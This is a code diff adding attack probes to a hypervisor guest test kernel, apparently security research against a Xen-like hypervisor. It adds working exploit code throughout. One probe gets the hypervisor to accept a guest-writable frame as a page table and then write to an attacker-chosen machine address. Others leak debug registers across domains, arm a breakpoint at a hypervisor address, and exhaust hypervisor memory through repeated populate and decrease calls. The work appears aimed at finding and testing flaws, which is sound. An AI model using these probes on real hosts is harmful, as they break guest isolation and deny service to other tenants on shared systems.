@@ -448,6 +448,215 @@ static void hostile_mmio(const struct hvm_start_info *si)
     say("hvmtest: hostile mmio done: 20000 accesses");
 }
 
+
+/* ---- attack probes (branch atkhvm) ---- */
+
+/* mode=vcpuinit: VCPUOP_initialise on vcpu 1 of this HVM domain takes
+ * the PV path (set_vcpu_context): ctrlreg[3] names a machine frame,
+ * which becomes a PGT_l4 page table and vcpu 1's cr3 - replacing its
+ * HVM tag - while the frame stays writable through the guest's p2m. With
+ * online=1 the vcpu is then scheduled as an HVM vcpu without a VMCB. The
+ * frame is found by trying every mfn: only one owned by this domain that
+ * validates as an L4 (e.g. a zeroed one) is accepted. */
+
+static uint64_t hexopt(const char *cmdline, const char *key)
+{
+    const char *v = opt(cmdline, key);
+    uint64_t x = 0;
+    if (!v)
+        return 0;
+    if (v[0] == '0' && (v[1] == 'x' || v[1] == 'X'))
+        v += 2;
+    for (; *v && *v != ' '; v++) {
+        int d = (*v >= '0' && *v <= '9') ? *v - '0' : (*v >= 'a' && *v <= 'f') ? *v - 'a' + 10 : -1;
+        if (d < 0)
+            break;
+        x = x * 16 + (uint64_t)d;
+    }
+    return x;
+}
+
+/* The L4 frame m (typed PGT_l4 by the hv, cr3 of vcpu 1) is still RAM in
+ * this guest's p2m: find it (the hv copied its own L4 slots 256..271 into
+ * it), write entries of our own, and have the hv write vcpu 1's time
+ * area through them: to a machine address of our choosing. */
+static void probe_l4_write(const char *cmdline, uint64_t m)
+{
+    uint64_t *t = 0;
+    uint64_t nram = (uint64_t)hcall(__HYPERVISOR_memory_op, XENMEM_current_reservation,
+                                    (uint64_t)(uintptr_t)&(domid_t){ DOMID_SELF }, 0, 0, 0);
+    say("hvmtest: l4write: scanning gfns 0..%#lx", (unsigned long)nram + 0x100);
+    for (uint64_t g = 0; g < nram + 0x100 && g < (1ULL << 18); g++) {
+        uint64_t *p = (uint64_t *)(uintptr_t)(g << 12);
+        if (p[256] | p[257] | p[262] | p[263]) {
+            t = p;
+            say("hvmtest: l4write: the L4 frame (mfn %#lx) is our gfn %#lx, writable: hv slots 256 %#lx 262 %#lx 263 %#lx",
+                (unsigned long)m, (unsigned long)g, (unsigned long)p[256], (unsigned long)p[262],
+                (unsigned long)p[263]);
+            break;
+        }
+    }
+    if (!t) {
+        say("hvmtest: l4write: L4 frame not found in our memory");
+        return;
+    }
+    uint64_t target = m << 12; /* first: the frame itself, offset 0x100 */
+    for (int stage = 0; stage < 2; stage++) {
+        if (stage == 1) {
+            target = hexopt(cmdline, "wtarget");
+            if (!target)
+                break;
+            say("hvmtest: l4write: stage 2: writing to machine address %#lx", (unsigned long)target);
+        } else {
+            target += 0x100;
+        }
+        /* slot 1 maps the frame itself as L3 and as L2; slot 3 of it (as L2)
+         * a 2 MiB page at target's 2 MiB frame */
+        t[1] = (m << 12) | 7;
+        t[3] = (target & ~0x1fffffULL) | 0x87;
+        uint64_t va = (1ULL << 39) | (1ULL << 30) | (3ULL << 21) | (target & 0x1fffff);
+        struct vcpu_register_time_memory_area a = { .addr.v = (void *)(uintptr_t)va };
+        long rc = hcall(__HYPERVISOR_vcpu_op, VCPUOP_register_vcpu_time_memory_area, 1,
+                        (uint64_t)(uintptr_t)&a, 0, 0);
+        say("hvmtest: l4write: register_vcpu_time_memory_area(vcpu 1, va %#lx) = %ld", (unsigned long)va, rc);
+        if (stage == 0)
+            say("hvmtest: l4write: our L4 frame at +0x100 now: %#lx %#lx %#lx %#lx (hv-written vcpu_time_info: %s)",
+                (unsigned long)t[32], (unsigned long)t[33], (unsigned long)t[34], (unsigned long)t[35],
+                (t[32] || t[33]) ? "WRITE THROUGH GUEST-BUILT TABLES CONFIRMED" : "nothing");
+    }
+}
+
+static struct vcpu_guest_context vctx;
+static void probe_vcpuinit(const char *cmdline)
+{
+    long maxm = hcall(__HYPERVISOR_memory_op, XENMEM_maximum_ram_page, 0, 0, 0, 0);
+    int online = opt_is(cmdline, "online", "1");
+    say("hvmtest: vcpuinit probe: max mfn %ld, online=%d", maxm, online);
+    long first = hcall(__HYPERVISOR_vcpu_op, VCPUOP_is_up, 1, 0, 0, 0);
+    uint64_t found = 0;
+    say("hvmtest: VCPUOP_is_up(1) = %ld", first);
+    for (long m = 1; m < maxm; m++) {
+        memset(&vctx, 0, sizeof(vctx));
+        vctx.flags = VGCF_in_kernel | (online ? VGCF_online : 0);
+        vctx.user_regs.rip = 0x100000;
+        vctx.user_regs.rsp = 0x200000;
+        vctx.user_regs.cs = 0xe033;
+        vctx.user_regs.ss = 0xe02b;
+        vctx.ctrlreg[3] = (uint64_t)m << 12;
+        long rc = hcall(__HYPERVISOR_vcpu_op, VCPUOP_initialise, 1, (uint64_t)(uintptr_t)&vctx, 0, 0);
+        if (rc == 0) {
+            say("hvmtest: VCPUOP_initialise(vcpu 1) ACCEPTED machine frame %#lx as an L4 of an HVM vcpu", (unsigned long)m);
+            found = (uint64_t)m;
+            break;
+        }
+        if (m % 8192 == 0)
+            say("hvmtest: ... mfn %#lx (rc %ld)", (unsigned long)m, rc);
+    }
+    say("hvmtest: VCPUOP_is_up(1) = %ld now", hcall(__HYPERVISOR_vcpu_op, VCPUOP_is_up, 1, 0, 0, 0));
+    if (!online && found)
+        probe_l4_write(cmdline, found);
+    for (int i = 0; i < 50; i++)
+        hcall(__HYPERVISOR_sched_op, SCHEDOP_yield, 0, 0, 0, 0);
+    say("hvmtest: vcpuinit: still alive after 50 yields");
+}
+
+/* mode=drleak: DR0-3 are not intercepted nor switched for HVM vcpus:
+ * write a pattern with the domid, yield, and look whether DR0-3 now hold
+ * another domain's pattern. */
+static uint64_t rd_dr(int n)
+{
+    uint64_t v = 0;
+    switch (n) {
+    case 0: __asm__ volatile("mov %%dr0, %0" : "=r"(v)); break;
+    case 1: __asm__ volatile("mov %%dr1, %0" : "=r"(v)); break;
+    case 2: __asm__ volatile("mov %%dr2, %0" : "=r"(v)); break;
+    default: __asm__ volatile("mov %%dr3, %0" : "=r"(v)); break;
+    }
+    return v;
+}
+static void probe_drleak(void)
+{
+    uint32_t r[4];
+    cpuid(0x40000004, 0, r);
+    uint32_t me = r[2];
+    say("hvmtest: drleak d%u: at start DR0-3 = %#lx %#lx %#lx %#lx", me, (unsigned long)rd_dr(0),
+        (unsigned long)rd_dr(1), (unsigned long)rd_dr(2), (unsigned long)rd_dr(3));
+    uint64_t mine = 0xd0d0000000ULL | ((uint64_t)me << 8);
+    __asm__ volatile("mov %0, %%dr0; mov %1, %%dr1" :: "r"(mine), "r"(mine | 1));
+    int leaks = 0;
+    for (int i = 0; i < 400 && leaks < 3; i++) {
+        hcall(__HYPERVISOR_sched_op, SCHEDOP_yield, 0, 0, 0, 0);
+        for (volatile int k = 0; k < 20000; k++)
+            ;
+        uint64_t d0 = rd_dr(0), d1 = rd_dr(1);
+        if (d0 != mine || d1 != (mine | 1)) {
+            say("hvmtest: drleak d%u LEAK: DR0 %#lx DR1 %#lx (mine %#lx) after %d yields", me,
+                (unsigned long)d0, (unsigned long)d1, (unsigned long)mine, i);
+            leaks++;
+            __asm__ volatile("mov %0, %%dr0; mov %1, %%dr1" :: "r"(mine), "r"(mine | 1));
+        }
+    }
+    say("hvmtest: drleak d%u done: %d leaks seen", me, leaks);
+}
+
+/* mode=dr7hv: DR7 is not intercepted; with a global execute breakpoint
+ * at a hypervisor address (hvaddr=), does the hv run with it armed after
+ * #VMEXIT (hardware resets DR7 there; "#DB in hv context" lines say it
+ * did not)? */
+static void probe_dr7hv(const char *cmdline)
+{
+    uint64_t a = hexopt(cmdline, "hvaddr");
+    say("hvmtest: dr7hv: DR0 = %#lx, DR7 = 0x402", (unsigned long)a);
+    __asm__ volatile("mov %0, %%dr0; mov %1, %%dr7" :: "r"(a), "r"(0x402UL));
+    uint32_t r[4];
+    for (int i = 0; i < 200; i++)
+        cpuid(0, 0, r);
+    uint64_t d7;
+    __asm__ volatile("mov %%dr7, %0" : "=r"(d7));
+    say("hvmtest: dr7hv: 200 cpuid exits done, guest DR7 %#lx", (unsigned long)d7);
+}
+
+/* mode=p2meat: every populate_physmap at a gfn in a new 2 MiB region
+ * makes the hv allocate p2m table frames (DOMID_HV_OWNED, charged to no
+ * one); decrease_reservation gives the RAM frame back but never the
+ * tables. One frame of quota, repeated, takes all of the hv's memory. */
+static void probe_p2meat(const char *cmdline)
+{
+    uint64_t limit = hexopt(cmdline, "iters");
+    if (!limit)
+        limit = 1ULL << 20;
+    uint64_t base = 1ULL << 24; /* gfn 16M: far above RAM */
+    uint64_t i;
+    {   /* one page of quota: give back an unused RAM page near the top */
+        xen_pfn_t g = 0xf00;
+        struct xen_memory_reservation r = { .nr_extents = 1, .extent_order = 0, .domid = DOMID_SELF };
+        set_xen_guest_handle(r.extent_start, &g);
+        say("hvmtest: p2meat: decrease gfn 0xf00 = %ld",
+            hcall(__HYPERVISOR_memory_op, XENMEM_decrease_reservation, (uint64_t)(uintptr_t)&r, 0, 0, 0));
+    }
+    for (i = 0; i < limit; i++) {
+        xen_pfn_t g = base + (i << 9);
+        struct xen_memory_reservation r = { .nr_extents = 1, .extent_order = 0, .domid = DOMID_SELF };
+        set_xen_guest_handle(r.extent_start, &g);
+        long rc = hcall(__HYPERVISOR_memory_op, XENMEM_populate_physmap, (uint64_t)(uintptr_t)&r, 0, 0, 0);
+        if (rc != 1) {
+            say("hvmtest: p2meat: populate #%lu at gfn %#lx = %ld: the hv is out of memory", (unsigned long)i,
+                (unsigned long)g, rc);
+            break;
+        }
+        rc = hcall(__HYPERVISOR_memory_op, XENMEM_decrease_reservation, (uint64_t)(uintptr_t)&r, 0, 0, 0);
+        if (rc != 1) {
+            say("hvmtest: p2meat: decrease #%lu = %ld", (unsigned long)i, rc);
+            break;
+        }
+        if (i % 16384 == 0)
+            say("hvmtest: p2meat: %lu populate/decrease pairs (>= %lu p2m table frames)", (unsigned long)i,
+                (unsigned long)i);
+    }
+    say("hvmtest: p2meat: done after %lu pairs, reservation now %ld pages", (unsigned long)i,
+        hcall(__HYPERVISOR_memory_op, XENMEM_current_reservation, (uint64_t)(uintptr_t)&(domid_t){ DOMID_SELF }, 0, 0, 0));
+}
+
 void hvmtest_main(uint64_t start_info)
 {
     const struct hvm_start_info *si = (const struct hvm_start_info *)(uintptr_t)start_info;
@@ -472,6 +681,14 @@ void hvmtest_main(uint64_t start_info)
         hostile_hcalls();
     else if (opt_is(cmdline, "mode", "mmio"))
         hostile_mmio(si);
+    else if (opt_is(cmdline, "mode", "vcpuinit"))
+        probe_vcpuinit(cmdline);
+    else if (opt_is(cmdline, "mode", "drleak"))
+        probe_drleak();
+    else if (opt_is(cmdline, "mode", "dr7hv"))
+        probe_dr7hv(cmdline);
+    else if (opt_is(cmdline, "mode", "p2meat"))
+        probe_p2meat(cmdline);
     else if (opt_is(cmdline, "mode", "triple")) {
         say("hvmtest: triple fault next");
         load_idt(0);
